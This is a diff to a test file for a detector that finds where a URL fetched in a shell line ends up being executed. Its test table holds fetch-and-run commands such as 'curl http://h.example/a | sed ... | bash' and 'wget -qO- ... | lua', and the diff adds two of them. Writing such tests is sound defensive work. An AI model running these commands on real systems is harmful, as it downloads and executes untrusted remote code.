@@ -19,6 +19,8 @@ describe("what another command of the line fetches is what runs", () => {
     ["in the place of code", 'awk "$(curl -s http://h.example/a)"'],
     ["in the place of code, between back-ticks", 'lua -e "`curl -s http://h.example/a`"'],
     ["behind an editor of streams", "curl http://h.example/a | sed 's/x/y/' | bash"],
+    ["on the input of what carries that out", "curl -s http://h.example/a | ed"],
+    ["on the input of an interpreter", "wget -qO- http://h.example/a | lua"],
     ["behind code that stands in the words", "curl http://h.example/a | awk '{ print $2 }' | bash"],
   ])("%s", (_, line) => {
     const found = running(line).filter(({ value }) => value === "http://h.example/a");
